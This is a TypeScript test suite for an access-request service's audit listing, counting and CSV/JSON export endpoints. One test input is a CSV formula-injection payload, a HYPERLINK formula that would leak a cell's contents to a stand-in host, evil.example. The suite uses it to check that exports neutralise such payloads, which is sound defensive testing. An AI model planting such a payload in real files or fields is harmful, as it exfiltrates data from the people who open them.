import {
  InMemoryAccessRequestRepository,
  InMemoryPeopleDirectory,
  InMemorySessionRecordRepository,
  PERSONAS,
} from '@elevate/testing';
import { describe, expect, it } from 'vitest';
import {
  auditJsonExportSchema,
  auditCountSchema,
  auditPageSchema,
  requestPageSchema,
  requestViewSchema,
} from '@elevate/contracts';
import type { RequestSummary } from '@elevate/contracts';
import type { AccessRequestRepository } from '@elevate/domain';
import { apiWorld } from '../testing/api-world';

const { alice, bob, rita, audrey } = PERSONAS;

/** The audit listings, without and with histories (the exports read the second). */
const AUDIT_LISTINGS: readonly PropertyKey[] = ['listForAudit', 'listForAuditWithHistory'];
type AuditListing = 'listForAudit' | 'listForAuditWithHistory';

/** Like the DynamoDB store when its read budget runs out: short pages with a cursor to go on. */
function shortPages(inner: AccessRequestRepository, size: number): AccessRequestRepository {
  return new Proxy(inner, {
    get(target, property, receiver) {
      if (AUDIT_LISTINGS.includes(property)) {
        const listing = property as AuditListing;
        return (query: Parameters<AccessRequestRepository[AuditListing]>[0]) =>
          target[listing]({ ...query, limit: Math.min(query.limit, size) });
      }
      const value: unknown = Reflect.get(target, property, receiver);
      return typeof value === 'function' ? value.bind(target) : value;
    },
  });
}

const RANGE = 'from=2030-01-01T00:00:00Z&to=2030-01-02T00:00:00Z';
const INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"click") for the deploy';

async function seeded(options: Parameters<typeof apiWorld>[0] = {}) {
  const w = apiWorld({
    repository: shortPages(new InMemoryAccessRequestRepository(), 3),
    ...options,
  });
  const bodies = [
    { accountId: '111111111111', roleName: 'PowerUser', justification: INJECTION },
    {
      accountId: '222222222222',
      roleName: 'ReadOnly',
      justification: '@SUM(1+1) "quoted", with commas',
    },
    { accountId: '111111111111', roleName: 'ReadOnly', justification: '-2+3 looks like a number' },
  ];
  let minute = 0;
  for (const who of [alice, bob, rita]) {
    for (const body of bodies) {
      minute += 1;
      w.setNow(`2030-01-01T10:${String(minute).padStart(2, '0')}:00.000Z`);
      const response = await w.call(who, 'POST', '/requests', body);
      expect(response.status).toBe(201);
    }
  }
  // One outside the range.
  w.setNow('2030-01-03T10:00:00.000Z');
  await w.call(alice, 'POST', '/requests', bodies[0]);
  w.setNow('2030-01-03T11:00:00.000Z');
  return w;
}

async function allPages(
  w: Awaited<ReturnType<typeof seeded>>,
  query: string,
): Promise<RequestSummary[]> {
  const items: RequestSummary[] = [];
  let cursor: string | undefined;
  do {
    const response = await w.call(
      audrey,
      'GET',
      `/audit/requests?${query}${cursor === undefined ? '' : `&cursor=${cursor}`}`,
    );
    expect(response.status).toBe(200);
    const page = requestPageSchema.parse(await response.json());
    items.push(...page.items);
    cursor = page.nextCursor;
  } while (cursor !== undefined);
  return items;
}

/** A minimal RFC 4180 reader for the test: quoted fields, doubled quotes, CRLF records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  const field = /"((?:[^"]|"")*)"(,|\r\n)/gy;
  let row: string[] = [];
  for (let match = field.exec(text); match !== null; match = field.exec(text)) {
    row.push((match[1] ?? '').replaceAll('""', '"'));
    if (match[2] === '\r\n') {
      rows.push(row);
      row = [];
    }
  }
  expect(field.lastIndex === 0 || field.lastIndex === text.length).toBe(true);
  return rows;
}

describe('GET /audit/requests', () => {
  it('lists every request in the range newest first across pages, filtered', async () => {
    const w = await seeded();
    const all = await allPages(w, RANGE);
    expect(all).toHaveLength(9);
    expect(all.map((item) => item.createdAt)).toEqual(
      [...all.map((item) => item.createdAt)].sort().reverse(),
    );

    const bobs = await allPages(w, `${RANGE}&requester=bob@example.com&accountId=111111111111`);
    expect(bobs.map((item) => [item.requester.sub, item.accountId])).toEqual([
      [bob.sub, '111111111111'],
      [bob.sub, '111111111111'],
    ]);
    const bySub = await allPages(w, `${RANGE}&requester=${rita.sub}&roleName=ReadOnly`);
    expect(bySub).toHaveLength(2);
  });
});

describe('GET /audit/requests: partial requester, ticket, free text, order; and its count', () => {
  const withPeople = async () => {
    const people = new InMemoryPeopleDirectory();
    const w = await seeded({ people });
    return { w, people };
  };

  it('finds a requester by part of the name or e-mail through the people record', async () => {
    const { w } = await withPeople();
    for (const text of ['bob', 'BOB REQ', 'bob@example']) {
      const found = await allPages(w, `${RANGE}&requester=${encodeURIComponent(text)}`);
      expect(
        found.map((item) => item.requester.sub),
        text,
      ).toEqual([bob.sub, bob.sub, bob.sub]);
    }
    // "requester" matches Alice Requester and Bob Requester: both, merged newest first.
    const both = await allPages(w, `${RANGE}&requester=requester`);
    expect(new Set(both.map((item) => item.requester.sub))).toEqual(new Set([alice.sub, bob.sub]));
    expect(both.map((item) => item.createdAt)).toEqual(
      [...both.map((item) => item.createdAt)].sort().reverse(),
    );
  });

  it('refuses a partial requester that matches too many people with a problem, not a partial list', async () => {
    const people = new InMemoryPeopleDirectory();
    for (let i = 0; i < 11; i += 1)
      await people.recordSignIn({
        sub: `s-${i}`,
        email: `sam${i}@example.com`,
        name: `Sam ${i}`,
        groups: ['engineers'],
        lastSignInAt: '2030-01-01T00:00:00.000Z',
      });
    const w = apiWorld({ people });
    const response = await w.call(audrey, 'GET', `/audit/requests?${RANGE}&requester=sam`);
    expect(response.status).toBe(422);
    expect(response.headers.get('content-type')).toContain('application/problem+json');
    expect(await response.json()).toMatchObject({ code: 'REQUESTER_AMBIGUOUS' });
  });

  it('sorts oldest first, finds free text and ticket prefixes, and counts the matches from the aggregates apart', async () => {
    const { w } = await withPeople();
    const oldest = await allPages(w, `${RANGE}&order=oldest`);
    expect(oldest.map((item) => item.createdAt)).toEqual(
      [...oldest.map((item) => item.createdAt)].sort(),
    );
    expect(oldest).toHaveLength(9);
    const text = await allPages(w, `${RANGE}&q=${encodeURIComponent('LOOKS LIKE')}`);
    expect(text).toHaveLength(3);

    for (const [ticket, minute] of [
      ['INC-12', '01'],
      ['INC-123', '02'],
      ['INC-2', '03'],
    ] as const) {
      w.setNow(`2030-01-01T23:${minute}:00.000Z`);
      const response = await w.call(alice, 'POST', '/requests', {
        accountId: '111111111111',
        roleName: 'ReadOnly',
        justification: 'Look at the incident',
        ticket,
      });
      expect(response.status).toBe(201);
    }
    w.setNow('2030-01-03T12:00:00.000Z');
    const prefixed = await allPages(w, `${RANGE}&ticketPrefix=inc-12`);
    expect(prefixed.map((item) => item.ticket)).toEqual(['INC-123', 'INC-12']);
    const exact = await allPages(w, `${RANGE}&ticket=inc-12`);
    expect(exact.map((item) => item.ticket)).toEqual(['INC-12']);

    // The aggregates (kept from the change stream in AWS) count what the filters match.
    let cursor: string | undefined;
    do {
      const page = await w.deps.repository.listForAuditWithHistory({
        from: '2030-01-01T00:00:00Z',
        to: '2030-01-04T00:00:00Z',
        limit: 100,
        ...(cursor === undefined ? {} : { cursor }),
      });
      for (const request of page.items) await w.deps.insights?.record(request, []);
      cursor = page.nextCursor;
    } while (cursor !== undefined);
    const first = async (query: string) =>
      auditPageSchema.parse(await (await w.call(audrey, 'GET', `/audit/requests?${query}`)).json());
    const count = async (query: string) =>
      auditCountSchema.parse(
        await (await w.call(audrey, 'GET', `/audit/requests/count?${query}`)).json(),
      ).total;
    // A page of a longer answer does not count: that is a read of the range's aggregates, apart.
    const all = await first(`${RANGE}&limit=2`);
    expect(all.nextCursor).toBeDefined();
    expect(all.total).toBeUndefined();
    expect(await count(RANGE)).toBe(12);
    expect(await count(`${RANGE}&accountId=111111111111`)).toBe(9);
    expect(await count(`${RANGE}&accountId=111111111111&status=PENDING`)).toBe(9);
    expect(await count(`${RANGE}&requester=bob@example.com`)).toBe(3);
    expect(await count(`${RANGE}&requester=bob`)).toBe(3);
    // The ticket and text filters are not in the aggregates: no count, rather than a wrong one.
    expect(await count(`${RANGE}&q=incident`)).toBeUndefined();
    expect(await count(`${RANGE}&ticket=INC-2`)).toBeUndefined();
    // A first page that holds everything counts itself.
    expect((await first(`${RANGE}&ticket=INC-2`)).total).toBe(1);
    // Only auditors and admins count.
    expect((await w.call(alice, 'GET', `/audit/requests/count?${RANGE}`)).status).toBe(403);
  });
});

describe('GET /audit/requests.csv', () => {
  it('streams every page of the filtered listing as an attachment', async () => {
    const w = await seeded();
    const query = `${RANGE}&accountId=111111111111`;
    const response = await w.call(audrey, 'GET', `/audit/requests.csv?${query}`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe(
      'attachment; filename="elevate-audit-20300101T000000Z-20300102T000000Z.csv"',
    );
    expect(response.headers.get('cache-control')).toBe('no-store');

    const [header, ...rows] = parseCsv(await response.text());
    expect(header?.slice(0, 3)).toEqual(['id', 'createdAt', 'requesterEmail']);
    const listed = await allPages(w, query);
    expect(listed).toHaveLength(6);
    expect(rows.map((row) => row[0])).toEqual(listed.map((item) => item.id));
  });

  it('neutralises formula payloads and keeps quotes and commas inside their field', async () => {
    const w = await seeded();
    const text = await (await w.call(audrey, 'GET', `/audit/requests.csv?${RANGE}`)).text();
    const [header, ...rows] = parseCsv(text);
    const column = header?.indexOf('justification') ?? -1;
    const justifications = new Set(rows.map((row) => row[column]));
    expect(justifications).toEqual(
      new Set([`'${INJECTION}`, `'@SUM(1+1) "quoted", with commas`, `'-2+3 looks like a number`]),
    );
    expect(rows.every((row) => row.length === header?.length)).toBe(true);
    expect(text).not.toMatch(/(^|,|\r\n)"[=+\-@]/);
  });

  it('holds every decision with its comment, who closed the request, and every session with its CloudTrail link', async () => {
    const sessions = new InMemorySessionRecordRepository();
    const w = apiWorld({ sessions });
    w.setNow('2030-01-01T10:00:00.000Z');
    const created = requestViewSchema.parse(
      await (
        await w.call(alice, 'POST', '/requests', {
          accountId: '111111111111',
          roleName: 'ReadOnly',
          justification: 'INC-7 disk full',
        })
      ).json(),
    );
    w.setNow('2030-01-01T10:05:00.000Z');
    expect(
      (await w.call(rita, 'POST', `/requests/${created.id}/approve`, { comment: 'go ahead' }))
        .status,
    ).toBe(200);
    await sessions.record({
      id: 'ses-1',
      requestId: created.id,
      kind: 'cli',
      issuedBy: { sub: alice.sub, email: alice.email, name: alice.name },
      roleArn: 'arn:aws:iam::111111111111:role/ReadOnly',
      accountId: '111111111111',
      accessKeyId: 'test_access_key_id_1',
      roleSessionName: 'alice-ReadOnly',
      sourceIdentity: 'alice',
      expiresAt: '2030-01-01T11:00:00.000Z',
      region: 'eu-west-1',
      issuedAt: '2030-01-01T10:06:00.000Z',
    });
    w.setNow('2030-01-01T10:30:00.000Z');
    expect(
      (await w.call(rita, 'POST', `/requests/${created.id}/revoke`, { comment: 'done here' }))
        .status,
    ).toBe(200);

    const [header, row] = parseCsv(
      await (await w.call(audrey, 'GET', `/audit/requests.csv?${RANGE}`)).text(),
    );
    const cell = (name: string) => row?.[header?.indexOf(name) ?? -1];
    expect(cell('decisions')).toBe(
      `APPROVE by ${rita.email} at 2030-01-01T10:05:00.000Z: go ahead`,
    );
    expect(cell('closedBy')).toBe(`REVOCATION by ${rita.email}`);
    expect(cell('closingComment')).toBe('done here');
    expect(cell('sessions')).toBe(
      'cli test_access_key_id_1 issued 2030-01-01T10:06:00.000Z expires 2030-01-01T11:00:00.000Z account 111111111111 region eu-west-1 https://eu-west-1.console.aws.amazon.com/cloudtrailv2/home?region=eu-west-1#/events?AccessKeyId=test_access_key_id_1',
    );
  });

  it('exports the same as JSON: history, decisions, who closed it, sessions with CloudTrail links', async () => {
    const sessions = new InMemorySessionRecordRepository();
    const w = apiWorld({ sessions });
    w.setNow('2030-01-01T10:00:00.000Z');
    const created = requestViewSchema.parse(
      await (
        await w.call(alice, 'POST', '/requests', {
          accountId: '111111111111',
          roleName: 'ReadOnly',
          justification: 'INC-8 restart the queue',
        })
      ).json(),
    );
    w.setNow('2030-01-01T10:05:00.000Z');
    await w.call(rita, 'POST', `/requests/${created.id}/reject`, { comment: 'use the runbook' });
    const response = await w.call(audrey, 'GET', `/audit/requests.json?${RANGE}`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-disposition')).toBe(
      'attachment; filename="elevate-audit-20300101T000000Z-20300102T000000Z.json"',
    );
    const body = auditJsonExportSchema.parse(await response.json());
    expect(body.requests).toHaveLength(1);
    expect(body.requests[0]?.decisions.map((d) => [d.decision, d.comment])).toEqual([
      ['REJECT', 'use the runbook'],
    ]);
    expect(body.requests[0]?.closedBy?.type).toBe('REJECTION');
    expect(body.requests[0]?.sessions).toEqual([]);
    expect((await w.call(alice, 'GET', `/audit/requests.json?${RANGE}`)).status).toBe(403);
  });

  it('is refused to a requester before anything is streamed', async () => {
    const w = await seeded();
    const response = await w.call(alice, 'GET', `/audit/requests.csv?${RANGE}`);
    expect(response.status).toBe(403);
    expect(response.headers.get('content-type')).toBe('application/problem+json');
  });

  it('answers 422 EXPORT_TOO_LARGE, not a cut-off file, past the row cap', async () => {
    const exact = await seeded({ auditExportLimits: { maxRows: 9, maxBytes: 1_000_000 } });
    const whole = await exact.call(audrey, 'GET', `/audit/requests.csv?${RANGE}`);
    expect(whole.status).toBe(200);
    expect(parseCsv(await whole.text())).toHaveLength(10);

    const w = await seeded({ auditExportLimits: { maxRows: 8, maxBytes: 1_000_000 } });
    const response = await w.call(audrey, 'GET', `/audit/requests.csv?${RANGE}`);
    expect(response.status).toBe(422);
    expect(response.headers.get('content-type')).toBe('application/problem+json');
    const problem = (await response.json()) as { code: string; detail: string };
    expect(problem.code).toBe('EXPORT_TOO_LARGE');
    expect(problem.detail).toMatch(/narrow the date range or filters/);
    // A narrower filter fits.
    const narrower = await w.call(
      audrey,
      'GET',
      `/audit/requests.csv?${RANGE}&requester=bob@example.com`,
    );
    expect(narrower.status).toBe(200);
  });

  it('answers 422 EXPORT_TOO_LARGE past the size cap, counting the JSON-escaped size', async () => {
    const w = await seeded({ auditExportLimits: { maxRows: 1000, maxBytes: 1000 } });
    const response = await w.call(audrey, 'GET', `/audit/requests.csv?${RANGE}`);
    expect(response.status).toBe(422);
    expect(((await response.json()) as { code: string }).code).toBe('EXPORT_TOO_LARGE');
  });

  it('answers a problem, not a cut-off file, when the store fails on a later page', async () => {
    const inner = new InMemoryAccessRequestRepository();
    let calls = 0;
    const failing = new Proxy(shortPages(inner, 2), {
      get(target, property, receiver) {
        if (AUDIT_LISTINGS.includes(property)) {
          const listing = property as AuditListing;
          return async (query: Parameters<AccessRequestRepository[AuditListing]>[0]) => {
            calls += 1;
            if (calls > 1) throw new Error('ProvisionedThroughputExceededException');
            return target[listing](query);
          };
        }
        return Reflect.get(target, property, receiver);
      },
    });
    const w = apiWorld({ repository: failing });
    for (let i = 0; i < 3; i += 1) {
      requestViewSchema.parse(
        await (
          await w.call(alice, 'POST', '/requests', {
            accountId: '111111111111',
            roleName: 'PowerUser',
            justification: 'Debug the failing deploy pipeline',
          })
        ).json(),
      );
    }
    const response = await w.call(
      audrey,
      'GET',
      `/audit/requests.csv?${RANGE.replace('2030-01-01T00', '2029-12-31T00')}`,
    );
    expect(calls).toBe(2);
    expect(response.status).toBe(500);
    expect(response.headers.get('content-type')).toBe('application/problem+json');
    expect(await response.text()).not.toContain('ProvisionedThroughput');
  });
});
